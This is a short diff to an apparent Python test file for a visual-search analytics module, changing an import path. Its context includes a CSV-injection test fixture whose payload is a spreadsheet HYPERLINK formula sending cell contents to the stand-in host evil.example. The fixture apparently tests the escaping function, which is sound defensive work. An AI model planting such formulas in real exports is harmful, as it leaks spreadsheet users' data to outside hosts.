@@ -14,7 +14,7 @@ import pytest
 from PIL import Image
 
 from visual_search.analytics import SearchLog, escape_csv_cell, new_session_id
-from visual_search.config import DEFAULT_LOG_DAYS, Settings, add_log_days_argument
+from visual_search.core.config import DEFAULT_LOG_DAYS, Settings, add_log_days_argument
 
 FORMULAS = {
     "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
